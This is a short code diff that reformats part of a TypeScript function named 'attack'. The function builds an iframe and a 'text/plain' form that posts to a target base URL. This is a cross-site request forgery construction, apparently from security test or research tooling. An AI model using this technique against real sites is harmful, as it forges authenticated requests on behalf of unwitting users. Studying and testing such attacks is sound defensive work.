@@ -60,7 +60,12 @@ export async function attack({ base, token, body }: { base: string; token: strin
 
   // A frame loads whatever it gets, so it is what can be read in it that counts.
   await element('iframe', { src: url, name: 'inner' })
-  const form = Object.assign(document.createElement('form'), { action: base + asks, method: 'post', target: 'inner', enctype: 'text/plain' })
+  const form = Object.assign(document.createElement('form'), {
+    action: base + asks,
+    method: 'post',
+    target: 'inner',
+    enctype: 'text/plain',
+  })
   form.append(Object.assign(document.createElement('input'), { name: body, value: '' }))
   document.body.append(form)
   const inner = document.querySelector('iframe')!
